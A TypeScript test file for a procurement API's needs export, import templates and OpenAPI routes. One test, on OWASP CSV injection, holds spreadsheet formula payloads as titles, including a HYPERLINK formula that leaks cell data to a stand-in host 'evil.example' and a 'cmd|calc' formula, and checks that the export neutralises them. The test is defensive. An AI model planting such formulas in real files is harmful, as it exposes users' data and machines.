import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CAPABILITY_IMPORT_COLUMNS, NEED_IMPORT_COLUMNS } from '@zamena/shared/imports/import-columns';
import { bearer, postNeed, register } from '../../../test/fixtures';
import { importFile, readXlsx, startImportWorker } from '../../../test/imports-fixtures';
import { createTestApp, type TestContext } from '../../../test/test-app';
import { LIST_ROWS, LISTS_SHEET } from './import-template';

let ctx: TestContext;
let worker: ReturnType<typeof startImportWorker>;
beforeAll(async () => {
  ctx = await createTestApp();
  worker = startImportWorker(ctx);
});
afterAll(async () => {
  await worker.stop();
  await ctx.close();
});

const download = (token: string, url: string) =>
  ctx.app.inject({ method: 'GET', url: `/api/v1${url}`, headers: bearer(token) });

describe('needs export', () => {
  it('exports the needs GET /needs filters would list, as XLSX and CSV, in the template columns', async () => {
    const buyer = await register(ctx.app);
    const other = await register(ctx.app);
    await postNeed(ctx.app, buyer.token, { publish: true, title: 'Подшипник 7510', okpd2: '28.15.10.120' });
    await postNeed(ctx.app, buyer.token, {
      publish: true,
      title: 'Подшипник 7512',
      targetUnitPrice: '1250.50',
    });
    await postNeed(ctx.app, buyer.token, {
      publish: true,
      title: 'Подшипник в Москву',
      deliveryRegionCode: '77',
    });
    await postNeed(ctx.app, buyer.token, { publish: true, title: 'Насос', okpd2: '28.13.14.110' });
    await postNeed(ctx.app, other.token, { title: 'Чужой черновик подшипника' });
    const query = 'okpd2=28.15&region=62';

    const xlsx = await download(buyer.token, `/needs/export?${query}&format=xlsx`);
    expect(xlsx.statusCode).toBe(200);
    expect(xlsx.headers['content-type']).toContain('spreadsheetml');
    expect(xlsx.headers['content-disposition']).toMatch(
      /^attachment; filename="needs-\d{4}-\d{2}-\d{2}\.xlsx"/,
    );
    const [header, ...rows] = await readXlsx(xlsx.rawPayload);
    expect(header!.slice(0, NEED_IMPORT_COLUMNS.length)).toEqual(
      NEED_IMPORT_COLUMNS.map((column) => column.ru),
    );
    expect(header).toContain('Статус');
    const byTitle = Object.fromEntries(rows.map((row) => [row[0], row]));
    expect(Object.keys(byTitle).sort()).toEqual(['Подшипник 7510', 'Подшипник 7512']);
    const column = (key: string) => NEED_IMPORT_COLUMNS.findIndex((c) => c.key === key);
    const row = byTitle['Подшипник 7512']!;
    expect(row[column('targetUnitPrice')]).toBe(1250.5);
    expect(row[column('neededBy')]).toEqual(new Date('2030-03-01T00:00:00Z'));
    expect(row[column('deliveryRegionCode')]).toBe('62');
    expect(row[column('buyerInn')]).toMatch(/^\d{10}$/);

    const csv = await download(buyer.token, `/needs/export?${query}&format=csv`);
    expect(csv.statusCode).toBe(200);
    expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(csv.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const records: string[][] = parse(csv.rawPayload, { bom: true, delimiter: ';' });
    expect(records[0]!.slice(0, NEED_IMPORT_COLUMNS.length)).toEqual(NEED_IMPORT_COLUMNS.map((c) => c.ru));
    const csvRow = records.find((record) => record[0] === 'Подшипник 7512')!;
    expect(records).toHaveLength(3);
    expect(csvRow[column('targetUnitPrice')]).toBe('1250,50');
    expect(csvRow[column('neededBy')]).toBe('01.03.2030');
    expect(csvRow[column('critical')]).toBe('да');

    // Another organization's draft stays out even without filters.
    const all = await download(buyer.token, '/needs/export?format=csv');
    expect(all.body).not.toContain('Чужой черновик');
    expect(parse(all.rawPayload, { bom: true, delimiter: ';' })).toHaveLength(5);

    const refused = await download(buyer.token, '/needs/export?format=pdf');
    expect(refused.statusCode).toBe(400);
  });

  it('writes titles a spreadsheet would run as formulas into the CSV as text (OWASP CSV injection)', async () => {
    const buyer = await register(ctx.app);
    const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A2,"Подробнее")';
    const titles = [hyperlink, '+7 495 насос', '-40 °C уплотнитель', '@SUM(1+1)*cmd|calc'];
    for (const title of titles) await postNeed(ctx.app, buyer.token, { title });
    // The API trims text; rows written otherwise (older data, SQL) may still start with a tab or a CR.
    for (const title of ['\tТабуляция', '\rВозврат каретки']) {
      const { id } = await postNeed(ctx.app, buyer.token, { title: 'временно' });
      await ctx.database.pool.query('UPDATE needs SET title = $2 WHERE id = $1', [id, title]);
    }

    const csv = await download(buyer.token, `/needs/export?buyer=${buyer.organizationId}&format=csv`);
    expect(csv.statusCode).toBe(200);
    expect(csv.body).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A2,""Подробнее"")"`);
    const [, ...records]: string[][] = parse(csv.rawPayload, { bom: true, delimiter: ';' });
    expect(records.map((record) => record[0]).sort()).toEqual(
      [...titles, '\tТабуляция', '\rВозврат каретки'].map((title) => `'${title}`).sort(),
    );
    expect(records.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });

  it('exports in a form that imports back', async () => {
    const buyer = await register(ctx.app);
    await postNeed(ctx.app, buyer.token, { publish: true, title: 'Фильтр масляный', replaces: 'MANN W 712' });
    await postNeed(ctx.app, buyer.token, { title: 'Ремень приводной', critical: false });
    const exported = await download(buyer.token, `/needs/export?buyer=${buyer.organizationId}&format=xlsx`);
    const result = await importFile(ctx.app, buyer.token, 'needs', 'export.xlsx', exported.rawPayload);
    expect(result).toMatchObject({ status: 'succeeded', importedCount: 2 });
    const { rows } = await ctx.database.pool.query(
      'SELECT title, status, count(*)::int AS n FROM needs WHERE buyer_organization_id = $1 GROUP BY 1, 2 ORDER BY 1',
      [buyer.organizationId],
    );
    expect(rows).toEqual([
      { title: 'Ремень приводной', status: 'draft', n: 2 },
      { title: 'Фильтр масляный', status: 'open', n: 2 },
    ]);
  });
});

describe('import templates', () => {
  for (const [kind, columns] of [
    ['needs', NEED_IMPORT_COLUMNS],
    ['capabilities', CAPABILITY_IMPORT_COLUMNS],
  ] as const) {
    it(`offers a ${kind} template that imports cleanly once its example row is filled in`, async () => {
      const enterprise = await register(ctx.app);
      const response = await download(enterprise.token, `/${kind}/import/template.xlsx`);
      expect(response.statusCode).toBe(200);
      expect(response.headers['content-disposition']).toContain(`zamena-${kind}-template.xlsx`);

      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(response.rawPayload as unknown as ExcelJS.Buffer);
      const [data, instructions, lists] = workbook.worksheets;
      expect((data!.getRow(1).values as unknown[]).slice(1)).toEqual(columns.map((column) => column.ru));
      const notes = instructions!.getSheetValues().flat().map(String);
      // One spelling of region names: the one the client shows.
      expect(notes).toEqual(expect.arrayContaining(['796', 'штука', '62', 'Рязанская область']));
      expect(notes).not.toContain('Рязанская обл');

      // Drop-down lists for units, regions and yes/no, from a hidden sheet.
      expect(lists).toMatchObject({ name: LISTS_SHEET, state: 'hidden' });
      const listed = lists!.getSheetValues().flat().map(String);
      expect(listed).toEqual(
        expect.arrayContaining([
          'шт — штука (796)',
          'пар — пара (715)',
          '01 — Республика Адыгея',
          'да',
          'нет',
        ]),
      );
      const position = (type: string) => columns.findIndex((column) => column.type === type) + 1;
      for (const [type, list] of [
        ['unit', 'A'],
        [kind === 'needs' ? 'region' : 'unit', kind === 'needs' ? 'B' : 'A'],
        ...(kind === 'needs' ? [['boolean', 'C']] : []),
      ] as const) {
        for (const row of [2, LIST_ROWS + 1]) {
          expect(data!.getCell(row, position(type)).dataValidation).toMatchObject({
            type: 'list',
            formulae: [
              expect.stringMatching(new RegExp(`^'${LISTS_SHEET}'!\\$${list}\\$1:\\$${list}\\$\\d+$`)),
            ],
          });
        }
      }

      data!.getCell(2, 1).value = `Изделие по шаблону (${kind})`;
      const filled = Buffer.from(await workbook.xlsx.writeBuffer());
      const result = await importFile(ctx.app, enterprise.token, kind, 'template.xlsx', filled);
      expect(result).toMatchObject({ status: 'succeeded', importedCount: 1, errors: [] });
      const table = kind === 'needs' ? 'needs' : 'capabilities';
      const { rows } = await ctx.database.pool.query(`SELECT title FROM ${table} WHERE title = $1`, [
        `Изделие по шаблону (${kind})`,
      ]);
      expect(rows).toHaveLength(1);
    });
  }
});

describe('API description', () => {
  it('documents the import, template and export routes in OpenAPI', async () => {
    const response = await ctx.app.inject({ method: 'GET', url: '/api/openapi.json' });
    expect(response.statusCode).toBe(200);
    const paths = Object.keys(response.json().paths);
    expect(paths).toEqual(
      expect.arrayContaining([
        '/api/v1/needs/import',
        '/api/v1/capabilities/import',
        '/api/v1/needs/import/template.xlsx',
        '/api/v1/imports/{id}',
        '/api/v1/imports/{id}/annotated',
        '/api/v1/imports',
        '/api/v1/needs/export',
      ]),
    );
  });
});
